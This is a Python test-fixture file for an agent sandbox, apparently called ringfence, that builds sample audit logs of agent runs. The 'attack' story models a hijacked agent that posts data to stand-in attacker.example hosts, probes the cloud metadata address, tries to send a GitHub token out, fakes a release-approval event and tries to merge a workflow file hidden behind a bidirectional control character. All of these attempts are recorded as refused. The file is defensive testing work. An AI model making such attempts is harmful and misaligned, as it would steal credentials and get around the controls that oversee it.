"""Sample runs, told as the audit records they would leave behind."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from hashlib import sha256

import pytest

from ringfence.audit.record import EventName, Record
from ringfence.chain.words import Json
from ringfence.control.reading import read_run
from ringfence.control.view import RunView, Verification

RUN = "r-7f3a"
START = datetime(2026, 5, 4, 9, 30, tzinfo=UTC)
E = EventName


def hexes(text: str) -> str:
    """Give a digest that is as long as a real one."""
    return sha256(text.encode()).hexdigest()


class Story:
    """Records of one run, written down in order, a second apart."""

    def __init__(self, chain: str, agents: list[dict[str, Json]]) -> None:
        self.records: list[Record] = []
        self.requests = 0
        self.add(
            E.RUN_START,
            actor="os-user:maria",
            subject=chain,
            digest=hexes(chain),
            detail={"file": f"chains/{chain}.yaml", "agents": agents},
        )

    def add(
        self,
        event: EventName,
        *,
        agent: str | None = None,
        attempt: int = 1,
        actor: str = "supervisor",
        rule: str | None = None,
        decision: str | None = None,
        reason: str | None = None,
        where: str | None = None,
        subject: str | None = None,
        digest: str | None = None,
        detail: dict[str, Json] | None = None,
    ) -> None:
        """Write down one record."""
        self.records.append(
            Record(
                time=START + timedelta(seconds=len(self.records)),
                event=event,
                actor=actor,
                run=RUN,
                agent=agent,
                step=None if agent is None else f"{agent}#{attempt}",
                rule=rule,
                decision=decision,
                reason=reason,
                where=where,
                subject=subject,
                digest=digest,
                detail=detail or {},
            )
        )

    def step(self, agent: str, *, attempt: int = 1, secrets: list[str] | None = None) -> None:
        """Start an attempt."""
        self.add(
            E.STEP_START,
            agent=agent,
            attempt=attempt,
            digest=hexes(f"{agent}{attempt}"),
            detail={
                "argv0": "/usr/bin/python3", "secrets": list(secrets or []), "env": ["LANG"],
                "routes": 2, "backend": "native", "level": "L3",
            },
        )  # fmt: skip

    def done(
        self,
        agent: str,
        status: str = "succeeded",
        *,
        attempt: int = 1,
        code: int | None = 0,
        findings: list[Json] | None = None,
    ) -> None:
        """Finish an attempt."""
        ok = status == "succeeded"
        output: Json = {"name": f"{agent}.md", "bytes": 4_812, "sha256": hexes(agent)}
        self.add(
            E.STEP_FINISH,
            agent=agent,
            attempt=attempt,
            detail={
                "status": status, "exit_code": code, "ms": 12_340,
                "output": output if ok else None, "findings": findings or [],
            },
        )  # fmt: skip

    def emit(self, agent: str, event: str) -> None:
        """Let an agent's event through."""
        self.add(E.EVENT_EMIT, agent=agent, subject=event, rule="emits", decision="allow")

    def request(self, agent: str, url: str, *, allowed: bool, rule: str, reason: str = "") -> None:
        """Ask for something outside; an allowed request gets its result."""
        self.requests += 1
        number = f"q{self.requests}"
        self.add(
            E.EGRESS_ALLOW if allowed else E.EGRESS_DENY,
            actor="broker",
            agent=agent,
            subject=url,
            rule=rule,
            decision="allow" if allowed else "deny",
            reason=reason or None,
            where="chains/notes.yaml:21:9",
            detail={"id": number, "bytes_up": 512, "secrets": ["GITHUB_TOKEN"] if allowed else []},
        )
        if allowed:
            detail: dict[str, Json] = {
                "id": number, "status": 200, "bytes_up": 512, "bytes_down": 40_960, "ms": 88,
                "redactions": 1,
            }  # fmt: skip
            self.add(E.EGRESS_RESULT, actor="broker", agent=agent, detail=detail)

    def end(self, status: str) -> None:
        """Finish the run."""
        self.add(E.RUN_FINISH, detail={"status": status})

    def view(self, *, ok: bool = True) -> RunView:
        """Give the view of what was written down, on a log that verifies or does not."""
        check = Verification(
            ok=ok,
            size=len(self.records) + 120,
            first_bad=None if ok else 7,
            reason="" if ok else "the stored hash differs from the record",
        )
        return read_run(RUN, list(enumerate(self.records, 100)), verification=check)


def agent(name: str, triggers: list[Json], emits: list[Json], kind: str = "cli") -> dict[str, Json]:
    """Give an agent as run.start lists it."""
    return {"name": name, "type": kind, "triggers": triggers, "emits": emits}


def notes() -> list[dict[str, Json]]:
    """Give a chain of four agents, two of them side by side."""
    return [
        agent("collector", ["chain:start"], ["facts:ready"], "script"),
        agent("writer", ["facts:ready"], ["draft:ready"]),
        agent("checker", ["facts:ready"], ["sources:checked"]),
        agent("publisher", ["draft:ready", "sources:checked"], ["chain:complete"], "script"),
    ]


def benign() -> Story:
    """Everything works and nothing is refused."""
    story = Story("release-notes", notes())
    lease: dict[str, Json] = {"host": "api.github.com", "slot": "header:authorization"}
    story.add(E.SECRET_LEASE, agent="collector", subject="GITHUB_TOKEN", detail=lease)
    story.step("collector", secrets=["GITHUB_TOKEN"])
    for _ in range(2):
        story.request(
            "collector",
            "GET https://api.github.com:443/repos/acme/app/pulls?state&page",
            allowed=True,
            rule="collector-network-1",
        )
        story.add(E.SECRET_USE, agent="collector", subject="GITHUB_TOKEN", detail=lease)
    story.add(
        E.OUTPUT_REDACT,
        agent="collector",
        subject="facts.md",
        detail={"kind": "github-token", "count": 1},
    )
    for name, event in (
        ("collector", "facts:ready"),
        ("writer", "draft:ready"),
        ("checker", "sources:checked"),
        ("publisher", "chain:complete"),
    ):
        if name != "collector":
            story.step(name)
        story.done(name)
        story.emit(name, event)
    story.add(E.SECRET_REVOKE, agent="collector", subject="GITHUB_TOKEN", detail=lease)
    story.add(
        E.MERGE_APPLY,
        agent="publisher",
        subject="docs/notes.md",
        digest=hexes("n"),
        rule="merge-auto",
        decision="allow",
    )
    story.end("succeeded")
    return story


def attack() -> Story:
    """A hijacked agent tries twelve things and is refused each time; the run ends well."""
    story = Story("triage", [agent("triage", ["chain:start"], ["chain:complete"])])
    story.step("triage", secrets=["GITHUB_TOKEN"])
    for number in range(6):
        story.request(
            "triage",
            f"POST https://collect-{number}.attacker.example:443/drop",
            allowed=False,
            rule="no-route",
            reason="no network rule of this agent names the host",
        )
    for _ in range(3):
        story.request(
            "triage",
            "GET http://169.254.169.254:80/latest/meta-data/",
            allowed=False,
            rule="private-address",
            reason="the address is link-local",
        )
    story.add(
        E.SECRET_DENY,
        agent="triage",
        subject="GITHUB_TOKEN",
        rule="secret-host",
        decision="deny",
        reason="the secret is bound to api.github.com",
        where="chains/triage.yaml:14:9",
        detail={"host": "collect-0.attacker.example", "slot": "header:authorization"},
    )
    story.add(
        E.EVENT_DENY,
        agent="triage",
        subject="release:approved",
        rule="event-not-declared",
        decision="deny",
        reason="the agent's emits do not name it",
    )
    story.add(
        E.MERGE_DROP,
        agent="triage",
        subject=".github/workflows/\u202eevil.yml",
        digest=hexes("evil"),
        rule="control-file",
        decision="deny",
        reason="workflow files are never merged",
    )
    story.done(
        "triage",
        findings=[
            {
                "check": "hidden-text",
                "severity": "high",
                "message": "the output holds bidirectional controls",
            },
        ],
    )
    story.emit("triage", "chain:complete")
    story.end("succeeded")
    return story


def failed() -> Story:
    """An agent fails twice and takes the run with it; the log does not verify either."""
    story = Story("nightly", notes())
    story.step("collector")
    story.done("collector", "failed", code=1)
    story.step("collector", attempt=2)
    story.done("collector", "timed-out", attempt=2, code=None)
    story.add(E.SETTING_UNSAFE, subject="secret NPM_TOKEN is delivered by environment variable")
    story.end("failed")
    return story


def waiting() -> Story:
    """The draft is ready, its changes are held and a person is asked."""
    story = Story("release-notes", notes())
    for name, event in (("collector", "facts:ready"), ("writer", "draft:ready")):
        story.step(name)
        story.done(name)
        story.emit(name, event)
    story.add(
        E.MERGE_HELD,
        agent="writer",
        subject="docs/notes.md",
        digest=hexes("held"),
        rule="merge-hold",
        decision="ask",
        reason="the agent's changes wait for a person",
        where="chains/release-notes.yaml:30:5",
    )
    story.add(
        E.REVIEW_REQUEST,
        agent="writer",
        subject="rv-19",
        digest=hexes("rv-19"),
        detail={
            "kind": "merge",
            "title": "Merge 1 changed file of writer into /srv/app",
            "expires": "2026-05-05T09:30:00Z",
        },
    )
    story.step("checker")
    story.done("checker")
    story.emit("checker", "sources:checked")
    return story


def large() -> Story:
    """Forty agents: eight at once, then a reducer, four times over, and a hostile name."""
    members: list[dict[str, Json]] = []
    for stage in range(4):
        before = "chain:start" if stage == 0 else f"stage-{stage - 1}:done"
        members += [
            agent(f"worker-{stage}-{n}", [before], [f"part-{stage}-{n}:done"]) for n in range(9)
        ]
        after = "chain:complete" if stage == 3 else f"stage-{stage}:done"
        parts: list[Json] = [f"part-{stage}-{n}:done" for n in range(9)]
        members.append(agent(f"reducer-{stage}", parts, [after]))
    story = Story("farm", members)
    for member in members[:12]:
        name = str(member["name"])
        story.step(name)
        story.done(name)
        story.emit(name, str(member["emits"][0]))  # type: ignore[index] - a list, made above
    story.step("worker-1-2")
    return story


STORIES: dict[str, Callable[[], Story]] = {
    "benign": benign,
    "attack": attack,
    "failed": failed,
    "waiting": waiting,
    "large": large,
}


@pytest.fixture
def stories() -> dict[str, Callable[[], Story]]:
    """Give the makers of the sample runs by name."""
    return STORIES


@pytest.fixture(scope="session")
def session_views() -> dict[str, RunView]:
    """Give the views once for a whole session; they are immutable."""
    return {name: make().view(ok=name != "failed") for name, make in STORIES.items()}


@pytest.fixture
def views(session_views: dict[str, RunView]) -> dict[str, RunView]:
    """Give the views of the sample runs by name."""
    return dict(session_views)
